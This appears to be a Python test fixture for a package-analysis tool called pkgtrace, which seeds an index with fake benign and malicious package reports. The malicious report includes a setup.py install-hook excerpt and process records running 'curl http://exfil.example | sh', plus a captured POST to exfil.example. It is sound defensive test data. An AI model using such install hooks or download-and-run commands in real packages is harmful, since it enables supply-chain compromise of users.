"""The dataset the web tests read: the results tests' hand-written documents, plus what the pkgtrace
report adds (process tree, captured traffic, static signals), loaded through the real index loader."""

from __future__ import annotations

import copy
import sys
from pathlib import Path

sys.path.insert(0, str(Path(__file__).resolve().parents[1] / "results"))
from fixture_docs import all_docs  # noqa: E402

from pkgtrace.model import Ecosystem, Package  # noqa: E402
from pkgtrace.results.index import Index, load_documents  # noqa: E402
from pkgtrace.results.stores.local import LocalStore  # noqa: E402

EVIL_NEW = Package(Ecosystem.PYPI, "evil-pkg", "1.0.0")
EVIL_OLD = Package(Ecosystem.PYPI, "evil-pkg", "0.9.0")
SCOPED = Package(Ecosystem.NPM, "@acme/widget", "2.0.0")
QUEUED = Package(Ecosystem.PYPI, "evil-pkg", "1.1.0")


def malicious_docs() -> dict:
    docs = all_docs(name="evil-pkg", version="1.0.0")
    docs["report"]["dynamic"] = {
        "processes": [
            {"pid": 10, "ppid": None, "phase": "install", "argv": ["pip", "install", "evil-pkg-1.0.0.tar.gz"],
             "exe": "/usr/bin/pip", "exit_code": 0},
            {"pid": 11, "ppid": 10, "phase": "install", "argv": ["sh", "-c", "curl http://exfil.example | sh"],
             "exe": "/bin/sh", "exit_code": 0},
            {"pid": 12, "ppid": 11, "phase": "install", "argv": ["curl", "http://exfil.example"],
             "exe": "/usr/bin/curl", "exit_code": 0},
        ],
        "phases": {"install": {"reason": None, "duration_s": 3.2, "exit_code": 0, "network": [
            {"kind": "tcp", "dst": "203.0.113.7", "port": 80, "hostname": "exfil.example",
             "http": {"method": "POST", "target": "/collect", "version": "HTTP/1.1", "host": "exfil.example",
                      "body_b64": "c3NoLXJzYSBBQUFB"}},
            {"kind": "tcp", "dst": "203.0.113.7", "port": 443, "hostname": "cdn.example",
             "tls": {"sni": "cdn.example", "alpn": ["http/1.1"]}, "allowed": False}]}},
    }
    docs["report"]["static"] = {
        "install_hooks": [{"kind": "setup.py", "file": "setup.py", "details": {},
                           "excerpt": "class Install(install):\n    def run(self):\n        os.system('curl http://exfil.example | sh')"}],
        "signals": [{"kind": "url", "file": "setup.py", "line": 12, "value": "http://exfil.example/x"}],
        "extraction": {"status": "ok", "errors": []},
    }
    docs["report"]["verdict"]["findings"][1]["evidence"]["excerpt"] = "os.system('curl http://exfil.example | sh')"
    return docs


def benign_docs() -> dict:
    docs = all_docs(name="evil-pkg", version="0.9.0")
    install = docs["dynamic"]["Analysis"]["install"]
    install.update({"Files": [], "Sockets": [], "Commands": [], "DNS": []})
    docs["dynamic"]["Analysis"]["execute"]["DNS"] = []
    docs["static"]["results"]["files"] = [docs["static"]["results"]["files"][1]]
    docs["report"]["verdict"] = {"score": 0.02, "label": "benign", "findings": []}
    return docs


def scoped_docs() -> dict:
    docs = copy.deepcopy(benign_docs())
    for d in (docs["dynamic"]["Package"],):
        d.update({"Ecosystem": "npm", "Name": "@acme/widget", "Version": "2.0.0"})
    docs["report"]["package"] = {"ecosystem": "npm", "name": "@acme/widget", "version": "2.0.0"}
    return docs


def seed(index: Index, store: LocalStore) -> None:
    for pkg, docs in ((EVIL_OLD, benign_docs()), (EVIL_NEW, malicious_docs()), (SCOPED, scoped_docs())):
        store.put(pkg, docs)
        load_documents(index, pkg, docs, location=store.location(pkg), duration_s=5.0, worker="test")
    index.request(QUEUED, source="feed", priority=0)
